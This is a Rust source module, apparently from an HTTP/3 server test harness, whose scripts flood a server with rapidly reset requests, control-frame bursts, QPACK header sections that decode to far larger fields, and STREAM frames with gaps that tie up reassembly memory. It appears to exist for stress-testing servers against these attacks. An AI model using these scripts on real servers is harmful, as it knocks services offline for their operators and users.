//! Attackers that send more than a server can use.

use super::Script;
use crate::client_connection::ClientConnection;
use http3::{Code, StreamId, whole_frame as frame};
use std::collections::BTreeMap;
use std::time::Duration;

/// First packets of clients that never answer.
pub(crate) struct FirstPackets;

impl Script for FirstPackets {
    fn connections(&self) -> usize {
        0
    }

    fn sends_first_packets(&self) -> bool {
        true
    }
}

/// Requests that are cancelled at once.
pub(crate) struct RapidReset(pub(crate) String);

impl Script for RapidReset {
    fn act(&mut self, _number: usize, client: &mut ClientConnection, _at: Duration) {
        for _ in 0..20 {
            let stream = StreamId(client.opened * 4);
            let sent = client.connection.request(stream, &client.get(&self.0, &[]), true);
            if !matches!(sent, Ok(true)) {
                return;
            }
            client.opened += 1;
            client.connection.shut(stream, Code::RequestCancelled);
        }
    }
}

pub(crate) struct ControlFrames {
    frame: Vec<u8>,
}

/// A client's control stream.
const CONTROL: u64 = 2;

impl ControlFrames {
    pub(crate) fn priority_updates() -> Self {
        Self { frame: frame(0xf_0700, b"\x00u=1") }
    }

    /// A type reserved for greasing (RFC 9114, 7.2.8).
    pub(crate) fn unknown() -> Self {
        Self { frame: frame(0x21, b"") }
    }
}

impl Script for ControlFrames {
    fn act(&mut self, _number: usize, client: &mut ClientConnection, _at: Duration) {
        let burst = self.frame.repeat(50);
        client.connection.send(StreamId(CONTROL), burst, false);
        client.connection.flush();
    }
}

/// Heads with 2 bytes per field that decode to 60.
pub(crate) struct LargeHeads;

impl Script for LargeHeads {
    fn act(&mut self, _number: usize, client: &mut ClientConnection, _at: Duration) {
        let stream = client.opened * 4;
        // Entry 85 of the static table of QPACK is a field of 76 bytes (RFC 9204, Appendix A).
        let mut section = vec![0, 0, 0xd1, 0xd7, 0xc1, 0x50, 0x01, b'a'];
        for _ in 0..3000 {
            section.extend([0xff, 22]);
        }
        if client.connection.quic.stream_send(stream, &frame(0x01, &section), true).is_ok() {
            client.opened += 1;
        }
    }
}

/// Heads with many one-byte fields, all references to the same entry of QPACK's static table.
pub(crate) struct ManyFields(pub(crate) usize);

impl Script for ManyFields {
    fn act(&mut self, _number: usize, client: &mut ClientConnection, _at: Duration) {
        // `:method`, `:scheme`, `:path` and `accept: */*` (RFC 9204, Appendix A), and an authority.
        let mut section = vec![0, 0, 0xd1, 0xd7, 0xc1, 0x50, 0x01, b'a'];
        section.extend(vec![0xdd; self.0]);
        let head = frame(0x01, &section);
        while client.connection.quic.stream_send(client.opened * 4, &head, true).is_ok() {
            client.opened += 1;
        }
    }
}

/// Bytes of streams, each after a missing one, 180 per packet: as many packets on each of a few streams as its window allows.
#[derive(Default)]
pub(crate) struct Gaps {
    /// Packets that each connection has sent.
    sent: BTreeMap<usize, u64>,
}

/// Connections of a client that occupies memory with gaps, the bytes of a connection, and the packets sent at once.
const GAPS_CONNECTIONS: usize = 250;
const GAPS_PACKETS: u64 = 110;
const GAPS_AT_ONCE: u64 = 10;
/// Pieces in a packet, and packets on a stream, for which offsets take two bytes.
const GAPS_PIECES: u64 = 180;
const GAPS_STREAM_PACKETS: u64 = 40;

impl Script for Gaps {
    fn connections(&self) -> usize {
        GAPS_CONNECTIONS
    }

    fn act(&mut self, number: usize, client: &mut ClientConnection, _at: Duration) {
        let sent = self.sent.entry(number).or_default();
        let end = (*sent + GAPS_AT_ONCE).min(GAPS_PACKETS);
        if client.send_frames((*sent..end).map(gaps)) {
            *sent = end;
        }
    }

    fn comes_back(&self) -> bool {
        false
    }
}

/// STREAM frames with one byte each, at every second offset.
fn gaps(packet: u64) -> Vec<u8> {
    let (stream, place) = (packet / GAPS_STREAM_PACKETS * 4, packet % GAPS_STREAM_PACKETS);
    let mut frames = Vec::new();
    for piece in 1 + place * GAPS_PIECES..=(place + 1) * GAPS_PIECES {
        // With offset and length.
        for number in [0x0e, stream, 2 * piece, 1] {
            http3::put_varint(&mut frames, number);
        }
        frames.push(0);
    }
    frames
}
